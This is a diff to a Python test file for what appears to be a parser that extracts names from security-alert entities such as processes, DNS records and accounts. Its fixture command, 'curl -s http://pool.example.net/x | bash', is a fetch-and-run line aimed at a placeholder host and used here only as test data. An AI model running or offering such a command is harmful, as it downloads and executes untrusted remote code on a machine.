@@ -18,6 +18,11 @@ COMMAND = "curl -s http://pool.example.net/x | bash"
 
 ENTITIES: list[dict[str, Any]] = [
     {"Type": "process", "CommandLine": COMMAND, "ProcessId": "0x5d1"},
+    {
+        "Type": "process", "CommandLine": "-c a: b", "ProcessId": "7", "Account": {"Type": "account", "Name": "ada"},
+        "ImageFile": {"Type": "file", "Directory": "C:\\Program Files", "Name": "x.exe"},
+        "ParentProcess": {"Type": "process", "ImageFile": {"Type": "file", "Name": "cmd.exe"}},
+    },
     {"Type": "process", "ProcessId": "1489", "ImageFile": {"Type": "file", "Directory": "/usr/bin", "Name": "curl"}},
     {"Type": "dns", "DomainName": "pool.example.net", "IpAddresses": ["198.51.100.23", "198.51.100.24"]},
     {"Type": "account", "Name": "ada", "NTDomain": "CORP"},
@@ -47,7 +52,8 @@ def test_every_name_that_an_entity_has_in_the_evidence_is_known_there(entity: di
     assert facts
     for fact in facts:
         values = values_in(fact.listed, fact.words)
-        assert {name for name in fact.names if name != entity.get("ProcessId")} <= set(values), fact
+        numbers = {entity.get("ProcessId"), f"({entity.get('ProcessId')})"}
+        assert set(fact.names) - numbers <= set(values), fact
 
 
 ANNOTATED = [f"{COMMAND}{behind}" for behind in (
@@ -79,7 +85,7 @@ def test_a_process_is_withheld_by_its_command_behind_its_image() -> None:
     """The image stands before a command line that does not name it; both are the process."""
     item = "C:\\Program Files\\x.exe: run: all (7), by SHOP\\ada, child of cmd.exe"
     assert {"run: all", "C:\\Program Files\\x.exe", "x.exe"} <= set(names_in("processes", item))
-    assert names_in("processes", "echo a: b (7)")[1:] == ("echo a: b",)
+    assert names_in("processes", "echo a: b (7)") == ("echo a: b (7)", "echo a: b")
     assert {"Wuhan", "China", "AS4837"} <= set(values_in("locations", "192.0.2.1: Wuhan, China (AS4837, x)"))
 
 
